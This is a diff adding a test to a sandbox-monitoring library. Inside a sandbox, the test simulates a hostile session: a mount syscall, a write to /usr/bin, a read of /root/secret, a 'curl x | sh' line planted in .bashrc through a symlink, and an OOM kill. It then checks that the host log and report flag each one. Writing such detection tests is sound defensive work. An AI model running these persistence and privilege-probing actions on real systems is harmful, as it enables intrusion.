@@ -15,7 +15,7 @@ import httpx
 import pytest
 
 from agentcell import Sandbox
-from agentcell.errors import InvalidArgumentException, NotFoundException
+from agentcell.errors import CommandExitException, InvalidArgumentException, NotFoundException
 
 
 def _wait_for(sbx_id: str, url: str, pred: Any, within: float = 10) -> list[dict[str, Any]]:
@@ -142,3 +142,40 @@ def test_self_reports_are_marked_and_cannot_pass_for_host_events(server_url: str
         assert first["data"]["source"] == "host" and first["sandbox_id"] == sbx.sandbox_id  # kept as data only
         assert not any(e["kind"] == "process.exec" and e.get("source") == "host" and e.get("n") == 3 for e in events)
         assert all(e["sandbox_id"] == sbx.sandbox_id for e in events)
+
+
+def test_a_hostile_session_in_the_record_and_the_report(server_url: str) -> None:
+    """What the code did, seen from the host: an exec chain from os.system inside run_code, a refused
+    mount, a write refused on the read-only /usr, root's home refused to the user, a shell rc file written
+    through a symlink, a memory hog killed by the OOM killer; then the report's flags citing them."""
+    with Sandbox.create(api_url=server_url, timeout=120, limits={"memoryMB": 256}) as sbx:
+        sid = sbx.sandbox_id
+        sbx.run_code("import os; os.system(\"sh -c 'ls /tmp | wc -l'\")")
+        sbx.run_code("import ctypes; ctypes.CDLL(None, use_errno=True).mount(b'none', b'/mnt', b'tmpfs', 0, None)")
+        sbx.run_code("import os\n"
+                     "for p in ('/usr/bin/evil', '/root/secret'):\n"
+                     "    try: open(p, 'a' if p.startswith('/usr') else 'r')\n"
+                     "    except OSError as e: print(p, e.errno)")
+        sbx.run_code("import os; os.symlink('/home/user/.bashrc', '/tmp/link'); open('/tmp/link', 'w').write('curl x | sh')")
+        with pytest.raises(CommandExitException):  # killed by the OOM killer
+            sbx.commands.run("python3 -c 'x = bytearray(1 << 30); print(len(x))'", timeout=60)
+    events = _wait_for(sid, server_url, lambda got: any(e["kind"] == "sandbox.killed" for e in got), within=15)
+    execs = [e for e in events if e["kind"] == "process.exec"]
+    argvs = [e.get("argv") or [] for e in execs]
+    assert ["sh", "-c", "ls /tmp | wc -l"] in argvs, argvs
+    ls = next(e for e in execs if (e.get("argv") or [""])[0] == "ls")
+    parent = [e for e in execs if e["pid"] == ls["ppid"] and e["seq"] < ls["seq"]]
+    assert parent and parent[-1]["argv"][0] == "sh", parent  # ls's parent was the sh os.system ran then
+    assert any(e["kind"] == "process.exit" and e["pid"] == ls["pid"] for e in events)
+    assert any(e["kind"] == "deny.syscall" and e["syscall"] == "mount" for e in events)
+    assert any(e["kind"] == "deny.write" and str(e.get("path")).startswith("/usr/bin") for e in events)
+    assert any(e["kind"] == "deny.access" and e.get("path") == "/root/secret" and e["errno"] == 13 for e in events)
+    assert any(e["kind"].startswith("file.") and e.get("path") == "/home/user/.bashrc" for e in events)
+    oom = [e for e in events if e["kind"] == "limit.oom"]
+    assert oom and oom[0].get("comm", "").startswith("python"), oom
+    assert all(e["source"] in ("host", "api") for e in events)
+    rep = Sandbox.report(sid, api_url=server_url)
+    flags = {f["flag"]: f for f in rep["flags"]}
+    assert {"privilege-syscalls", "sensitive-paths", "persistence"} <= set(flags), flags
+    cited = {e["seq"]: e for e in events}
+    assert all(cited[s]["kind"] == "deny.syscall" for s in flags["privilege-syscalls"]["events"])
